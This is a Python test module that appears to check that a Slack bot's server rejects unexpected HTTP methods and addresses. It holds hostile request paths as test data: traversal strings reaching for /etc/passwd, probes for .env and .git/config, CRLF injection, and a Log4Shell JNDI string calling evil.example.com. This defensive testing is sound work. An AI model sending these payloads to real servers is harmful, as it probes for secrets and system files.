"""Wrong methods and addresses; Slack's signature does not open any other."""

from collections.abc import Callable, Iterator
from urllib.parse import urlencode

from tests.attacks.door import Attack, command
from tests.wire import request, signed

BODY = urlencode(command()).encode()
UNKNOWN, DENIED = (404,), (401,)

METHODS = ("GET", "HEAD", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "X")

PATHS = (
    "/",
    "/slack",
    "/slack/",
    "/slack/events/",
    "/slack//events",
    "/slack/events/../events",
    "/slack/./events",
    "/slack/events%00",
    "/slack/events%0d%0aX:%20y",
    "/slack/events;jsessionid=1",
    "/slack/events.json",
    "/SLACK/EVENTS",
    "/slack\\events",
    "/slack/commands",
    "/slack/interactive",
    "/../../etc/passwd",
    "/..%2f..%2fetc%2fpasswd",
    "/%2e%2e/%2e%2e/etc/passwd",
    "/....//....//etc/passwd",
    "/.env",
    "/.git/config",
    "/takeaways.db",
    "/admin",
    "/wp-login.php",
    "/%ff%fe",
    "/%",
    "/${jndi:ldap://evil.example.com/a}",
    "/" + "a/" * 5_000,
    "*",
    "slack/events",
    "?",
)

# The same address in other words: it is Slack's signature that counts.
OTHER_WORDS = (
    "/slack/events?a=b",
    "/slack/events?",
    "/slack/events#top",
    "//slack/events",
    "/slack%2Fevents",
    "/%73lack/events",
    "http://bot.example.com/slack/events",
    "http://evil.example.com/slack/events",
    "https://user:password@evil.example.com:1/slack/events",
    "gopher://evil.example.com/slack/events",
)


def attacks() -> Iterator[Attack]:
    """Everything about methods and addresses."""
    for method in METHODS:
        yield Attack(f"the method {method}", _signed(f"{method} /slack/events"), (405,))
    for path in PATHS:
        yield Attack(f"the address {path[:60]}", _signed(f"POST {path}"), UNKNOWN)
    for path in OTHER_WORDS:
        yield Attack(f"the address {path}, unsigned", _unsigned(f"POST {path}"), DENIED)
    for path in ("/healthz", "/readyz", "/metrics"):
        for method in ("POST", "PUT", "DELETE"):
            yield Attack(f"{method} {path}", _signed(f"{method} {path}"), (405,))


def _signed(line: str) -> Callable[[str], bytes]:
    return lambda secret: request(BODY, signed(secret, BODY), f"{line} HTTP/1.1")


def _unsigned(line: str) -> Callable[[str], bytes]:
    return lambda _: request(BODY, {}, f"{line} HTTP/1.1")
